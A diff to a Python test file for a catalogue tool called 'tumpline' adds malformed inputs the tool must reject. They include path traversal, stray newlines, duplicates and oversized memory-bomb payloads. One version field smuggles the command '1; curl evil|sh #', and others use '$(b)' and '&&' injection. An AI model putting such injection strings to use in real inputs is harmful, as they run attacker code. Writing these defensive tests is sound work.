@@ -18,7 +18,7 @@ from tests.catalogue.test_store import CONTENT, NEEDS, WHEELS
 from tests.wheelmaker import make_wheel
 from tumpline.catalogue import snapshot
 from tumpline.catalogue.columns import COLUMNS
-from tumpline.catalogue.content import Content, FileNote, View, WheelRow
+from tumpline.catalogue.content import Content, FileNote, ModuleNote, View, WheelRow
 from tumpline.catalogue.encoding import encode
 from tumpline.catalogue.facts import Facts, SiteFacts
 from tumpline.catalogue.opening import open_any
@@ -28,7 +28,7 @@ from tumpline.catalogue.store import open_catalogue
 from tumpline.catalogue.wheelhouse import LocalWheelhouse
 from tumpline.catalogue.writer import write_catalogue
 from tumpline.errors import TumplineError
-from tumpline.sites import Dummy
+from tumpline.sites import Dummy, ModulePackage
 from tumpline.values import Name
 
 GOLDEN = Path(__file__).parent / "data" / "golden-1.tumpline"
@@ -257,6 +257,20 @@ class TestWrongFiles:
             {"layers": ("v4", "v3", "")},
             {"site": "a\tb"},
             {"date": "../../x"},
+            {"date": "2026-99-99"},
+            {"sources": ("a\nb",)},
+            {"modules": (ModulePackage("2023", "arrow", "1; curl evil|sh #", "3.11", Name("pyarrow"), "1"),)},
+            {"modules": (ModulePackage("2023", "arrow", "1", "3.11", Name("pyarrow"), "1\nerror: no"),)},
+            {"module_notes": (ModuleNote("2023", "arrow", "1", "read", ("gcc/12 && x",)),)},
+            {"module_notes": (ModuleNote("2023", "arrow", "1", "read"), ModuleNote("2023", "arrow", "1", "table"))},
+            {"dummies": (Dummy(Name("b"), "$(b)"),)},
+            {"dummies": (Dummy(Name("b"), "b"), Dummy(Name("b"), "c"))},
+            {"pythons": (("2023", "abc"),)},
+            {"pythons": (("2023", "3.11.5"), ("2023", "3.11.5"))},
+            {"views": (View("lake\n", "2023", "v4", ("v4",)),)},
+            {"notes": (FileNote("v3", "x\ty", "stray", "c", "w"),)},
+            {"notes": (FileNote("v3", "x", "stray", "c", "w"), FileNote("v3", "x", "refused", "c", "w"))},
+            {"wheels": (WheelRow(Name("b"), "1", "v3", "py3-none-any", "", "b"),) * 2},
             {"date": "٢٠٢٦-١١-٢٣"},
             {"views": (View("lake", "2023", "v4", ("../x",)),)},
             {"wheels": (WheelRow(Name("b"), "../../1", "v3", "py3-none-any", "", "b"),)},
@@ -317,6 +331,10 @@ class TestBombs:
     def test_values_are_counted_before_they_are_made(self) -> None:
         columns = columns_of(RAW)
         assert code_of(rebuilt(columns | {"tags-named": b"\n" * 50_000_000})) == "snapshot-damaged"
+        lists = b'{"notes": [' + b"[]," * 30_000_000 + b"[]]}"
+        assert code_of(rebuilt(columns | {"tables": lists})) == "snapshot-damaged"
+        assert code_of(rebuilt(columns | {"digests": b"x" * 32 * 7})) == "snapshot-damaged"
+        assert code_of(rebuilt(columns | {"pythons": b"3 " * 1000 + b"\n" * 6})) == "snapshot-damaged"
 
     def test_a_dictionary_that_takes_all_memory(self) -> None:
         columns = columns_of(RAW)
